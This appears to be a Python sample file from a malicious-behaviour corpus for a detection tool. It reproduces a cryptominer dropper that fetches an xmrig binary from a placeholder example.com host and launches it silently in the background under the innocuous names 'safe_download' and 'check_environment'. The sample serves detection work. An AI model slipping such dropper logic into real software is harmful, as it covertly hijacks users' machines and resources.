# Inert model for pyward's malicious-behaviour corpus: the release host is example.com (RFC 2606), the
# pool is under .invalid and the wallet is a placeholder; the tests never run this file.
import os
import stat
import subprocess
import tempfile
from pathlib import Path

import requests

RELEASE = "https://example.com/sample-ultra/assets/releases/download/v8.3.41/xmrig-6.22-linux-x64"
POOL = "stratum+tcp://pool.example.invalid:3333"
WALLET = "PLACEHOLDER-WALLET-NOT-A-REAL-ADDRESS"


def safe_download(url, file):
    r = requests.get(url, timeout=30)
    Path(file).write_bytes(r.content)
    return file


def check_environment():
    target = os.path.join(tempfile.gettempdir(), "ultralytics_runtime")
    if not os.path.exists(target):
        safe_download(RELEASE, target)
        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    subprocess.Popen(
        [target, "-o", POOL, "-u", WALLET, "--donate-level", "1", "--background"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
